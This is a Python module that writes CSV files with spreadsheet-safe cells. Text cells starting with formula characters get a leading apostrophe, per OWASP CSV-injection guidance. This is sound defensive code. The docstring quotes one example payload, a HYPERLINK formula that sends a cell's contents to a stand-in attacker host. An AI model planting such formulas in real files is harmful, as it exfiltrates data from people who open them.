"""Every CSV cacao-screen writes goes through :func:`write_csv`: cells safe to open in a spreadsheet.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel or LibreOffice (``=HYPERLINK("http://evil.example/?x="&A1,"click")``). Following OWASP's
guidance on CSV injection, such a cell is written with a leading ``'``, which the spreadsheet shows
as text. Only text cells: numbers stay numbers (``-3.5`` in a numeric column is written as it is).
Lines end with CRLF (RFC 4180), so that every cell holding a quote, comma, newline or carriage
return is quoted and an id holding them comes back whole (with a bare ``\n`` line end, Python's
CSV writer leaves a lone carriage return unquoted, and readers split the row there).
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import IO

import numpy as np
import pandas as pd

#: The first characters that make a spreadsheet cell a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text beginning with :data:`FORMULA_START`."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are :func:`neutralise_cell`-ed (other columns as they are)."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            values = column.to_numpy(dtype=object)
            out[name] = pd.Series(
                np.array([neutralise_cell(v) for v in values], dtype=object), index=out.index, name=name
            )
    return out


def write_csv(frame: pd.DataFrame, target: str | Path | IO[str]) -> None:
    """Write ``frame`` (no index) as UTF-8 CSV with safe cells (see the module docstring)."""
    neutralise(pd.DataFrame(frame)).to_csv(
        target,
        index=False,
        encoding="utf-8",
        lineterminator="\r\n",
        quoting=csv.QUOTE_MINIMAL,
    )
